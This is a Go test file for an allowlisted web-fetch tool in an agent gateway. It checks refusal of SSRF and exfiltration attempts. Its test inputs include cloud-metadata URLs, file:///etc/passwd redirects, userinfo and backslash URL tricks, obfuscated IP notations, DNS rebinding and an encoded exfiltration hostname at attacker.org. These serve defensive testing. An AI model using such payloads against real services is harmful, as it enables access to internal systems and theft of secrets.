package fetch

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"ironcurtain.dev/gateway/internal/audit"
	"ironcurtain.dev/gateway/internal/netguard"
	"ironcurtain.dev/gateway/internal/servers"
	"ironcurtain.dev/gateway/netpolicy"
)

// fakeResolver answers from a table and remembers every name it was asked.
// A name in rebind answers its first address to the first lookup and the
// second to every later one (a DNS rebinding attacker's server).
type fakeResolver struct {
	mu      sync.Mutex
	answers map[string][]netip.Addr
	rebind  map[string][2]netip.Addr
	asked   []string
}

func (r *fakeResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	first := !slices.Contains(r.asked, host)
	r.asked = append(r.asked, host)
	if rb, ok := r.rebind[host]; ok {
		if first {
			return []netip.Addr{rb[0]}, nil
		}
		return []netip.Addr{rb[1]}, nil
	}
	a, ok := r.answers[host]
	if !ok {
		return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
	}
	return a, nil
}

func (r *fakeResolver) lookups() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.asked...)
}

// memSink keeps events in memory; fail makes Record fail.
type memSink struct {
	mu     sync.Mutex
	events []*audit.EgressEvent
	fail   bool
}

func (s *memSink) Record(_ context.Context, e audit.Event) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.fail {
		return errors.New("disk full")
	}
	ev, ok := e.(*audit.EgressEvent)
	if !ok {
		return fmt.Errorf("unexpected event %T", e)
	}
	s.events = append(s.events, ev)
	return nil
}

func (s *memSink) all() []*audit.EgressEvent {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]*audit.EgressEvent(nil), s.events...)
}

type fixture struct {
	srv      *Server
	sink     *memSink
	resolver *fakeResolver
	hits     *atomic.Int64
	port     int
	seenUA   *atomic.Value
}

// newFixture starts a local web server reachable as docs.example.com,
// other.example.com and approved.example.net (all 127.0.0.1, the only address
// the guard's address policy lets through), and names that resolve to
// private addresses.
func newFixture(t *testing.T, cfg Config) *fixture {
	t.Helper()
	hits := &atomic.Int64{}
	seenUA := &atomic.Value{}
	mux := http.NewServeMux()
	mux.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<html><head><title>Doc</title><script>evil()</script></head><body><h1>Hello</h1><p>See <a href="/next">next</a>.</p></body></html>`)
	})
	mux.HandleFunc("/plain", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		fmt.Fprint(w, "0123456789")
	})
	mux.HandleFunc("/latin1", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain; charset=iso-8859-1")
		w.Write([]byte("caf\xe9"))
	})
	mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		fmt.Fprint(w, strings.Repeat("x", 5000))
	})
	mux.HandleFunc("/binary", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Write([]byte{0, 1, 2, 3})
	})
	mux.HandleFunc("/slow", func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-r.Context().Done():
		case <-time.After(5 * time.Second):
		}
	})
	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
	})
	mux.HandleFunc("/loop", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/loop", http.StatusMovedPermanently)
	})
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		seenUA.Store(r.UserAgent())
		mux.ServeHTTP(w, r)
	}))
	t.Cleanup(ts.Close)
	ap := netip.MustParseAddrPort(ts.Listener.Addr().String())

	loop := []netip.Addr{netip.MustParseAddr("127.0.0.1")}
	res := &fakeResolver{answers: map[string][]netip.Addr{
		"docs.example.com":     loop,
		"other.example.com":    loop,
		"approved.example.net": loop,
		"meta.example.com":     {netip.MustParseAddr("169.254.169.254")},
		"lan.example.com":      {netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("10.0.0.7")},
		"rebind.example.net":   {netip.MustParseAddr("192.168.1.1")},
	}, rebind: map[string][2]netip.Addr{
		// public-looking (here: the test server) when checked, then the
		// cloud metadata address
		"flip.example.net": {netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("169.254.169.254")},
		"flop.example.net": {netip.MustParseAddr("169.254.169.254"), netip.MustParseAddr("127.0.0.1")},
		"flip.example.com": {netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("169.254.169.254")},
	}}
	g, err := netguard.NewGuard(netguard.GuardConfig{
		Allow:     netpolicy.MustParsePatterns("docs.example.com", "*.example.com"),
		Addresses: netpolicy.AddressPolicy{UnsafeAllow: []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")}},
		Resolver:  res,
	})
	if err != nil {
		t.Fatal(err)
	}
	if cfg.AllowedPorts == nil {
		cfg.AllowedPorts = []int{int(ap.Port())}
	}
	if cfg.Timeout == 0 {
		cfg.Timeout = 3 * time.Second
	}
	sink := &memSink{}
	n := 0
	srv, err := New(cfg, Deps{Guard: g, Sink: sink, NewID: func() string { n++; return "ev-" + strconv.Itoa(n) }})
	if err != nil {
		t.Fatal(err)
	}
	return &fixture{srv: srv, sink: sink, resolver: res, hits: hits, port: int(ap.Port()), seenUA: seenUA}
}

func (f *fixture) url(host, path string) string {
	return "http://" + host + ":" + strconv.Itoa(f.port) + path
}

func TestFetch(t *testing.T) {
	type want struct {
		isError   bool
		contains  []string
		absent    []string
		hits      int64
		decisions []string // egress events, in order
	}
	tests := []struct {
		name     string
		args     func(f *fixture) map[string]any
		approved bool
		want     want
	}{
		{
			name: "allowed html page becomes markdown",
			args: func(f *fixture) map[string]any { return map[string]any{"url": f.url("docs.example.com", "/page")} },
			want: want{contains: []string{"Status: 200 OK", "Title: Doc", "# Hello", "[next](http://docs.example.com:"}, absent: []string{"evil()"}, hits: 1, decisions: []string{"allow"}},
		},
		{
			name: "text format has no markup",
			args: func(f *fixture) map[string]any {
				return map[string]any{"url": f.url("docs.example.com", "/page"), "format": "text"}
			},
			want: want{contains: []string{"Hello", "See next."}, absent: []string{"# Hello", "]("}, hits: 1, decisions: []string{"allow"}},
		},
		{
			name: "html format returns the source",
			args: func(f *fixture) map[string]any {
				return map[string]any{"url": f.url("docs.example.com", "/page"), "format": "html"}
			},
			want: want{contains: []string{"<h1>Hello</h1>"}, hits: 1, decisions: []string{"allow"}},
		},
		{
			name: "charset converted to utf-8",
			args: func(f *fixture) map[string]any { return map[string]any{"url": f.url("docs.example.com", "/latin1")} },
			want: want{contains: []string{"café"}, hits: 1, decisions: []string{"allow"}},
		},
		{
			name: "window with start_index and max_length",
			args: func(f *fixture) map[string]any {
				return map[string]any{"url": f.url("docs.example.com", "/plain"), "start_index": float64(3), "max_length": float64(4)}
			},
			want: want{contains: []string{"\n\n3456\n\n[content cut: 3 more characters; call again with start_index=7"}, hits: 1, decisions: []string{"allow"}},
		},
		{
			name: "host not on the allowlist is refused before DNS",
			args: func(f *fixture) map[string]any { return map[string]any{"url": f.url("evil.example.org", "/page")} },
			want: want{isError: true, contains: []string{"evil.example.org is not on the fetch allowlist"}, decisions: []string{"deny"}},
		},
		{
			name: "IP literal is refused",
			args: func(f *fixture) map[string]any { return map[string]any{"url": f.url("127.0.0.1", "/page")} },
			want: want{isError: true, contains: []string{"127.0.0.1 is not on the fetch allowlist"}, decisions: []string{"deny"}},
		},
		{
			name: "decimal IP notation is an IP too",
			args: func(f *fixture) map[string]any { return map[string]any{"url": f.url("2130706433", "/page")} },
			want: want{isError: true, contains: []string{"127.0.0.1 is not on the fetch allowlist"}, decisions: []string{"deny"}},
		},
		{
			name: "enclosed-alphanumeric IP notation is an IP too",
			args: func(f *fixture) map[string]any {
				return map[string]any{"url": "http://①②⑦.⓪.⓪.①:" + strconv.Itoa(f.port) + "/"}
			},
			want: want{isError: true, contains: []string{"127.0.0.1 is not on the fetch allowlist"}, decisions: []string{"deny"}},
		},
		{
			name: "upper case and one trailing dot are the same host",
			args: func(f *fixture) map[string]any { return map[string]any{"url": f.url("DOCS.Example.COM.", "/plain")} },
			want: want{contains: []string{"URL: http://docs.example.com:", "0123456789"}, hits: 1, decisions: []string{"allow"}},
		},
		{
			name: "allowed name resolving to the metadata address",
			args: func(f *fixture) map[string]any { return map[string]any{"url": f.url("meta.example.com", "/page")} },
			want: want{isError: true, contains: []string{"meta.example.com resolves to a private or internal address"}, absent: []string{"169.254"}, decisions: []string{"deny"}},
		},
		{
			name: "one private address in the answer refuses the host",
			args: func(f *fixture) map[string]any { return map[string]any{"url": f.url("lan.example.com", "/page")} },
			want: want{isError: true, contains: []string{"private or internal"}, decisions: []string{"deny"}},
		},
		{
			name: "redirect within the allowlist is followed",
			args: func(f *fixture) map[string]any {
				return map[string]any{"url": f.url("docs.example.com", "/redirect?to="+f.url("other.example.com", "/plain"))}
			},
			want: want{contains: []string{"URL: http://other.example.com:", "Redirected from: http://docs.example.com:", "0123456789"}, hits: 2, decisions: []string{"allow", "allow"}},
		},
		{
			name: "redirect to a host off the allowlist is refused",
			args: func(f *fixture) map[string]any {
				return map[string]any{"url": f.url("docs.example.com", "/redirect?to="+f.url("evil.example.org", "/x"))}
			},
			want: want{isError: true, contains: []string{"evil.example.org is not on the fetch allowlist"}, hits: 1, decisions: []string{"allow", "deny"}},
		},
		{
			name: "redirect to loopback literal is refused",
			args: func(f *fixture) map[string]any {
				return map[string]any{"url": f.url("docs.example.com", "/redirect?to=http://127.0.0.1:"+strconv.Itoa(f.port)+"/plain")}
			},
			want: want{isError: true, contains: []string{"127.0.0.1 is not on the fetch allowlist"}, hits: 1, decisions: []string{"allow", "deny"}},
		},
		{
			name: "redirect to the metadata address is refused",
			args: func(f *fixture) map[string]any {
				return map[string]any{"url": f.url("docs.example.com", "/redirect?to="+f.url("meta.example.com", "/latest/meta-data/"))}
			},
			want: want{isError: true, contains: []string{"private or internal"}, hits: 1, decisions: []string{"allow", "deny"}},
		},
		{
			name: "redirect to a file URL is refused",
			args: func(f *fixture) map[string]any {
				return map[string]any{"url": f.url("docs.example.com", "/redirect?to=file:///etc/passwd")}
			},
			want: want{isError: true, contains: []string{"redirect target is not an acceptable URL"}, absent: []string{"root:"}, hits: 1, decisions: []string{"allow"}},
		},
		{
			name: "redirect with userinfo trick is refused",
			args: func(f *fixture) map[string]any {
				return map[string]any{"url": f.url("docs.example.com", "/redirect?to=http://docs.example.com@evil.example.org/")}
			},
			want: want{isError: true, contains: []string{"redirect target is not an acceptable URL"}, hits: 1, decisions: []string{"allow"}},
		},
		{
			name: "redirect loop is capped",
			args: func(f *fixture) map[string]any { return map[string]any{"url": f.url("docs.example.com", "/loop")} },
			want: want{isError: true, contains: []string{"more than 2 redirects"}, hits: 3, decisions: []string{"allow", "allow", "allow"}},
		},
		{
			name: "binary content is refused",
			args: func(f *fixture) map[string]any { return map[string]any{"url": f.url("docs.example.com", "/binary")} },
			want: want{isError: true, contains: []string{"application/octet-stream content, which is not text"}, hits: 1, decisions: []string{"allow"}},
		},
		{
			name: "body over the byte cap is cut and marked",
			args: func(f *fixture) map[string]any { return map[string]any{"url": f.url("docs.example.com", "/big")} },
			want: want{contains: []string{"[the response was longer than the gateway's limit of 1000 bytes"}, hits: 1, decisions: []string{"allow"}},
		},
		{
			name: "port not allowed",
			args: func(f *fixture) map[string]any { return map[string]any{"url": "http://docs.example.com:22/"} },
			want: want{isError: true, contains: []string{"port 22 is not allowed"}, decisions: []string{"deny"}},
		},
		{
			name:     "human-approved host off the allowlist is fetched",
			approved: true,
			args:     func(f *fixture) map[string]any { return map[string]any{"url": f.url("approved.example.net", "/plain")} },
			want:     want{contains: []string{"0123456789"}, hits: 1, decisions: []string{"allow"}},
		},
		{
			name:     "approval does not extend to a redirect target",
			approved: true,
			args: func(f *fixture) map[string]any {
				return map[string]any{"url": f.url("approved.example.net", "/redirect?to="+f.url("evil.example.org", "/"))}
			},
			want: want{isError: true, contains: []string{"evil.example.org is not on the fetch allowlist"}, hits: 1, decisions: []string{"allow", "deny"}},
		},
		{
			name:     "approval does not lift the address rules",
			approved: true,
			args:     func(f *fixture) map[string]any { return map[string]any{"url": f.url("rebind.example.net", "/plain")} },
			want:     want{isError: true, contains: []string{"private or internal"}, decisions: []string{"deny"}},
		},
		{
			name:     "approval of an IP literal does not lift the address rules",
			approved: true,
			args: func(f *fixture) map[string]any {
				return map[string]any{"url": "http://169.254.169.254:" + strconv.Itoa(f.port) + "/"}
			},
			want: want{isError: true, contains: []string{"private or internal"}, decisions: []string{"deny"}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t, Config{MaxRedirects: 2, MaxBodyBytes: 1000})
			ctx := servers.WithCallInfo(context.Background(), servers.CallInfo{CallID: "call-1", SessionID: "s1", Approved: tt.approved})
			res, err := f.srv.Call(ctx, ToolName, tt.args(f))
			if err != nil {
				t.Fatalf("Call: %v", err)
			}
			if res.IsError != tt.want.isError {
				t.Errorf("IsError = %v, want %v (%q)", res.IsError, tt.want.isError, res.Content[0].Text)
			}
			text := res.Content[0].Text
			for _, s := range tt.want.contains {
				if !strings.Contains(text, s) {
					t.Errorf("result lacks %q:\n%s", s, text)
				}
			}
			for _, s := range tt.want.absent {
				if strings.Contains(text, s) {
					t.Errorf("result contains %q:\n%s", s, text)
				}
			}
			if got := f.hits.Load(); got != tt.want.hits {
				t.Errorf("server hits = %d, want %d", got, tt.want.hits)
			}
			evs := f.sink.all()
			var got []string
			for _, ev := range evs {
				got = append(got, ev.Decision)
				if ev.Kind != "fetch" || ev.ToolCallID != "call-1" || ev.SessionID != "s1" || ev.Method != "GET" {
					t.Errorf("event fields: %+v", ev)
				}
				if ev.Decision == "allow" && ev.Error == "" && ev.ResolvedIP != "127.0.0.1" {
					t.Errorf("allowed event ResolvedIP = %q", ev.ResolvedIP)
				}
			}
			if strings.Join(got, ",") != strings.Join(tt.want.decisions, ",") {
				t.Errorf("egress decisions = %v, want %v", got, tt.want.decisions)
			}
		})
	}
}

// TestFetchDNSRebinding: a name whose answer changes between lookups (the
// first answer passes the address policy, later ones point at the metadata
// service, or the reverse). Allowlisted or approved by a human, the host is
// looked up exactly once per connection and the connection goes to the
// address that was checked; a refused first answer is not retried.
func TestFetchDNSRebinding(t *testing.T) {
	tests := []struct {
		name     string
		host     string
		approved bool
		isError  bool
		want     string
		hits     int64
	}{
		{name: "approved host: the checked answer is dialed", host: "flip.example.net", approved: true, want: "0123456789", hits: 1},
		{name: "approved host: a refused first answer is not looked up again", host: "flop.example.net", approved: true, isError: true, want: "private or internal"},
		{name: "allowlisted host: the checked answer is dialed", host: "flip.example.com", want: "0123456789", hits: 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t, Config{})
			ctx := servers.WithCallInfo(context.Background(), servers.CallInfo{CallID: "c", SessionID: "s", Approved: tt.approved})
			call := func() servers.Result {
				t.Helper()
				res, err := f.srv.Call(ctx, ToolName, map[string]any{"url": f.url(tt.host, "/plain")})
				if err != nil {
					t.Fatal(err)
				}
				return res
			}
			if res := call(); res.IsError != tt.isError || !strings.Contains(res.Content[0].Text, tt.want) {
				t.Fatalf("first call: %+v, want error %v containing %q", res, tt.isError, tt.want)
			}
			if n := countOf(f.resolver.lookups(), tt.host); n != 1 {
				t.Fatalf("%s was looked up %d times in one call, want 1", tt.host, n)
			}
			if got := f.hits.Load(); got != tt.hits {
				t.Fatalf("server hits = %d, want %d", got, tt.hits)
			}
			if !tt.isError {
				// A new call looks up again and gets the rebound answer:
				// refused, never dialed.
				if res := call(); !res.IsError || !strings.Contains(res.Content[0].Text, "private or internal") {
					t.Fatalf("second call, after the rebinding: %+v, want refused", res)
				}
				if got := f.hits.Load(); got != tt.hits {
					t.Errorf("server hits = %d, want %d (the rebound address was dialed)", got, tt.hits)
				}
			}
			for _, ev := range f.sink.all() {
				if ev.ResolvedIP == "169.254.169.254" && ev.Decision == "allow" {
					t.Errorf("allowed a connection to the rebound address: %+v", ev)
				}
			}
		})
	}
}

func countOf(xs []string, x string) int {
	n := 0
	for _, s := range xs {
		if s == x {
			n++
		}
	}
	return n
}

func TestFetchRefusedNameNeverReachesDNS(t *testing.T) {
	f := newFixture(t, Config{})
	ctx := servers.WithCallInfo(context.Background(), servers.CallInfo{CallID: "c"})
	secret := "c2VjcmV0.exfil.attacker.org"
	res, err := f.srv.Call(ctx, ToolName, map[string]any{"url": f.url(secret, "/")})
	if err != nil || !res.IsError {
		t.Fatalf("res=%+v err=%v", res, err)
	}
	for _, name := range f.resolver.lookups() {
		if strings.Contains(name, "attacker") {
			t.Fatalf("refused name %q was sent to the resolver", name)
		}
	}
}

func TestFetchIgnoresEnvironmentProxy(t *testing.T) {
	t.Setenv("HTTP_PROXY", "http://127.0.0.1:1")
	t.Setenv("http_proxy", "http://127.0.0.1:1")
	f := newFixture(t, Config{})
	res, err := f.srv.Call(context.Background(), ToolName, map[string]any{"url": f.url("docs.example.com", "/plain")})
	if err != nil || res.IsError {
		t.Fatalf("res=%+v err=%v", res, err)
	}
	if ua, _ := f.seenUA.Load().(string); ua != DefaultUserAgent {
		t.Errorf("User-Agent = %q", ua)
	}
}

func TestFetchTimeout(t *testing.T) {
	f := newFixture(t, Config{Timeout: 200 * time.Millisecond})
	start := time.Now()
	res, err := f.srv.Call(context.Background(), ToolName, map[string]any{"url": f.url("docs.example.com", "/slow")})
	if err != nil {
		t.Fatal(err)
	}
	if !res.IsError || !strings.Contains(res.Content[0].Text, "timed out") {
		t.Fatalf("result = %+v", res)
	}
	if d := time.Since(start); d > 2*time.Second {
		t.Fatalf("took %v", d)
	}
	if evs := f.sink.all(); len(evs) != 1 || evs[0].Error == "" {
		t.Fatalf("events = %+v", evs)
	}
}

func TestFetchAuditFailureWithholdsContent(t *testing.T) {
	f := newFixture(t, Config{})
	f.sink.fail = true
	res, err := f.srv.Call(context.Background(), ToolName, map[string]any{"url": f.url("docs.example.com", "/plain")})
	if err == nil {
		t.Fatalf("Call succeeded without its egress record: %+v", res)
	}
	if len(res.Content) > 0 && strings.Contains(res.Content[0].Text, "0123456789") {
		t.Fatal("content returned although the egress record failed")
	}
}

func TestFetchArguments(t *testing.T) {
	tests := []struct {
		name string
		args map[string]any
		want string
	}{
		{name: "missing url", args: map[string]any{}, want: "url is required"},
		{name: "url not a string", args: map[string]any{"url": 42.0}, want: "url is required"},
		{name: "ftp scheme", args: map[string]any{"url": "ftp://docs.example.com/x"}, want: "invalid url"},
		{name: "file scheme", args: map[string]any{"url": "file:///etc/passwd"}, want: "invalid url"},
		{name: "userinfo", args: map[string]any{"url": "https://user:pw@docs.example.com/"}, want: "invalid url"},
		{name: "backslash confusion", args: map[string]any{"url": `https://evil.example.org\@docs.example.com/`}, want: "invalid url"},
		{name: "port out of range", args: map[string]any{"url": "https://docs.example.com:65536/"}, want: "invalid url"},
		{name: "control character", args: map[string]any{"url": "https://docs.example.com\t/"}, want: "invalid url"},
		{name: "two trailing dots", args: map[string]any{"url": "https://docs.example.com../"}, want: "invalid url"},
		{name: "percent-escaped host", args: map[string]any{"url": "https://docs%2eexample.com/"}, want: "invalid url"},
		{name: "several at signs", args: map[string]any{"url": "https://a@b@docs.example.com/"}, want: "invalid url"},
		{name: "relative url", args: map[string]any{"url": "/etc/passwd"}, want: "invalid url"},
		{name: "unknown argument", args: map[string]any{"url": "https://docs.example.com/", "headers": map[string]any{"Authorization": "x"}}, want: `unknown argument "headers"`},
		{name: "negative start", args: map[string]any{"url": "https://docs.example.com/", "start_index": -1.0}, want: "start_index must be"},
		{name: "fractional length", args: map[string]any{"url": "https://docs.example.com/", "max_length": 1.5}, want: "max_length must be"},
		{name: "bad format", args: map[string]any{"url": "https://docs.example.com/", "format": "pdf"}, want: "format must be"},
	}
	f := newFixture(t, Config{})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := f.srv.Call(context.Background(), ToolName, tt.args)
			if err != nil {
				t.Fatal(err)
			}
			if !res.IsError || !strings.Contains(res.Content[0].Text, tt.want) {
				t.Fatalf("result = %+v, want error containing %q", res, tt.want)
			}
		})
	}
	if f.hits.Load() != 0 || len(f.sink.all()) != 0 {
		t.Fatal("a refused argument reached the network")
	}
}

func TestRuneWindow(t *testing.T) {
	tests := []struct {
		name     string
		s        string
		start, n int
		window   string
		rest     int
		ok       bool
	}{
		{name: "all", s: "héllo", start: 0, n: 10, window: "héllo", rest: 0, ok: true},
		{name: "middle", s: "héllo", start: 1, n: 2, window: "él", rest: 2, ok: true},
		{name: "past end", s: "abc", start: 3, n: 1, ok: false},
		{name: "empty start 0", s: "", start: 0, n: 5, window: "", rest: 0, ok: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w, rest, ok := runeWindow(tt.s, tt.start, tt.n)
			if w != tt.window || rest != tt.rest || ok != tt.ok {
				t.Fatalf("runeWindow = %q, %d, %v", w, rest, ok)
			}
		})
	}
}

func TestNewValidates(t *testing.T) {
	g, _ := netguard.NewGuard(netguard.GuardConfig{})
	tests := []struct {
		name string
		cfg  Config
		deps Deps
	}{
		{name: "no guard", deps: Deps{Sink: &memSink{}}},
		{name: "no sink", deps: Deps{Guard: g}},
		{name: "bad port", cfg: Config{AllowedPorts: []int{0}}, deps: Deps{Guard: g, Sink: &memSink{}}},
		{name: "negative", cfg: Config{MaxRedirects: -1}, deps: Deps{Guard: g, Sink: &memSink{}}},
		{name: "length over ceiling", cfg: Config{MaxLength: 10, MaxLengthCeiling: 5}, deps: Deps{Guard: g, Sink: &memSink{}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := New(tt.cfg, tt.deps); err == nil {
				t.Fatal("New accepted an invalid configuration")
			}
		})
	}
}

func TestToolsAnnotated(t *testing.T) {
	tools := Tools()
	if len(tools) != 1 || tools[0].Name != ToolName {
		t.Fatalf("tools = %+v", tools)
	}
	a := tools[0].Annotation
	if a.Server != ServerName || a.Tool != ToolName {
		t.Fatalf("annotation names = %q %q", a.Server, a.Tool)
	}
	spec, ok := a.Arg("url")
	if !ok || len(spec.Default) != 1 || spec.Default[0] != "fetch-url" {
		t.Fatalf("url spec = %+v", spec)
	}
}

func FuzzRedirectTarget(f *testing.F) {
	for _, s := range []string{"/next", "https://other.example.com/x", "//evil.example.org/", "file:///etc/passwd",
		"http://a@b/", "https:/\\evil/", "javascript:alert(1)", "http://[::1]:80/", "?q=1", "http://2130706433/", "HTTP://EXAMPLE.COM./"} {
		f.Add(s)
	}
	cur, err := netpolicy.ParseURL("https://docs.example.com/a/b?c=d")
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, loc string) {
		next, msg := redirectTarget(cur, loc)
		if msg != "" {
			return
		}
		if next.Scheme != "http" && next.Scheme != "https" {
			t.Fatalf("accepted scheme %q from %q", next.Scheme, loc)
		}
		if next.Host.IsZero() || next.Port < 1 || next.Port > 65535 {
			t.Fatalf("accepted host %v port %d from %q", next.Host, next.Port, loc)
		}
		again, err := netpolicy.ParseURL(next.String())
		if err != nil || again.Host != next.Host || again.Port != next.Port {
			t.Fatalf("%q → %q does not re-parse to the same host: %v", loc, next.String(), err)
		}
	})
}
